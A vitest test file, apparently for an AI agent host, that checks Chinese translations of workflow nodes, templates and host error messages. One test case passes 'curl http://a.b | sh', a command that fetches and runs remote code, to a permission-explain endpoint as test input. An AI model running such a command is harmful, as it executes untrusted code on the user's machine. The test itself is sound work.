import { afterEach, beforeEach, expect, it } from 'vitest';
import { api } from '../service/contract/index.ts';
import { startTestHost, type TestHost } from '../service/testing/test-host.ts';
import { loadTranslations } from './translations.ts';
import type { HostMessage } from '../service/contract/host-message.ts';
import { formatterOf } from '../service/messages/format.ts';
import catalog from '../service/messages/zh-CN.json' with { type: 'json' };
import {
  localizeKinds,
  localizeTemplate,
} from '../renderer-shell/state/workflows/localize-kinds.ts';

let host: TestHost;
beforeEach(async () => {
  host = await startTestHost();
});
afterEach(() => host.close());

it('nodes and templates of the host have the same texts in English, and translations in Chinese', async () => {
  const nodes = await host.client.call(api.workflows.nodes);
  const kinds = new Map(nodes.map((node) => [node.type, node]));
  const templates = await host.client.call(api.workflows.templates);
  const english = await loadTranslations('en');
  expect(localizeKinds(kinds, english)).toEqual(kinds);
  expect(templates.map((one) => localizeTemplate(one, english))).toEqual(templates);

  const chinese = await loadTranslations('zh-CN');
  // A node for a tool has the name of the tool in every language.
  const localized = [...localizeKinds(kinds, chinese).values()].filter(
    ({ group }) => group !== 'tools',
  );
  const labels = localized.flatMap(({ label, inputs, outputs }) => [
    label,
    ...inputs.flatMap((input) => [input.label, ...(input.options ?? []).map((one) => one.label)]),
    ...outputs.map((output) => output.label),
  ]);
  const untranslated = labels.filter((label) => !/[\u4e00-\u9fff]/.test(label ?? ''));
  expect([...new Set(untranslated)].sort()).toEqual([
    'DELETE',
    'HTTP GET',
    'JSON',
    'PATCH',
    'POST',
    'PUT',
  ]);
  for (const { name, description, inputSchema } of templates.map((one) =>
    localizeTemplate(one, chinese),
  )) {
    const titles = Object.values(inputSchema['properties'] as Record<string, { title: string }>);
    for (const text of [name, description, ...titles.map(({ title }) => title)])
      expect(text).toMatch(/[\u4e00-\u9fff]/);
  }
});

it('a node of a plugin keeps its own texts', async () => {
  const t = await loadTranslations('zh-CN');
  const kind = {
    type: 'delay',
    tool: 'x',
    label: 'Rest',
    inputs: [],
    outputs: [],
    pluginId: 'a.b',
  };
  expect(localizeKinds(new Map([['delay', kind]]), t).get('delay')?.label).toBe('Rest');
});

const telling = /^(?:reason|detail|message|error|why|advice|warning)$/;

/** Text fields, with the field beside each that holds its message. */
const messageNames: Record<string, string> = { detail: 'message', message: 'text' };
const format = formatterOf(catalog.service, 'zh-CN');

interface HostText {
  text: string;
  message: unknown;
}

/** Returns all sentences in an answer, at any depth. */
function textsIn(value: unknown): HostText[] {
  if (typeof value !== 'object' || value === null) return [];
  const fields = value as Record<string, unknown>;
  return Object.entries(fields).flatMap(([name, each]) =>
    typeof each === 'string' && telling.test(name)
      ? [{ text: each, message: fields[messageNames[name] ?? `${name}Message`] }]
      : textsIn(each),
  );
}

const translationOf = ({ message }: HostText): string | null =>
  message === undefined || message === null ? null : format(message as HostMessage);

async function answerOf(path: string, body?: object): Promise<unknown> {
  const init = body && { method: 'POST', body: JSON.stringify(body) };
  const headers = { 'Content-Type': 'application/json' };
  return (await host.ask(path, { headers, ...init })).json();
}

const command = (text: string) => ({ tool: 'execute_command', arguments: { command: text } });
const stdio = { transport: 'STDIO', name: 'files' };
const failing = { name: 'h', event: 'pre_tool_use', type: 'command', command: 'exit 3' };
const node = { id: 'a', type: 'none', inputs: {}, position: { x: 0 } };
const step = { tool: 'none', arguments: { of: '{{inputs.none}}' }, dependsOn: [3] };

it.each([
  ['why workers are kept apart no further', '/api/security/process-isolation', undefined],
  ['what it decides over a command', '/api/permissions/explain', command('curl http://a.b | sh')],
  ['what it cannot tell of a command', '/api/permissions/explain', command('echo "$(')],
  ['what it asks about', '/api/permissions/explain', command('sudo ls')],
  ['what is wrong with a source', '/api/plugin-store/sources', { url: 'ftp://a.b/c' }],
  ['why a catalogue is not read', '/api/plugin-store/sources', { url: 'file:///none.json' }],
  [
    'what is wrong with a graph',
    '/api/workflows',
    { name: 'x', draft: true, graph: { nodes: [node], edges: [] } },
  ],
  ['what is wrong with a plan', '/api/workflows', { name: 'x', plan: { steps: [step] } }],
  ['what a server lacks', '/api/mcp/servers', stdio],
  ['how a hook ended', '/api/hooks/test', { hook: failing }],
  ['which plugin is not there', '/api/plugin-runtime/a.b/invoke', { callId: '1', method: 'm' }],
])('messages of the host are translated: %s', async (_, path, body) => {
  const texts = textsIn(await answerOf(path, body));
  if (body !== undefined) expect(texts.length).toBeGreaterThan(0);
  for (const entry of texts) expect(translationOf(entry), entry.text).toMatch(/\p{Script=Han}/u);
});

it('the message about an MCP server that does not start is translated', async () => {
  await answerOf('/api/mcp/servers', { ...stdio, command: 'no-such-program-here' });
  await expect
    .poll(async () => textsIn(await answerOf('/api/mcp/servers')).map(translationOf))
    .toEqual([
      '在 PATH 和您的登录 shell 的 PATH 中都找不到 no-such-program-here。请安装它并重新启动主机，或填写完整路径。',
    ]);
});
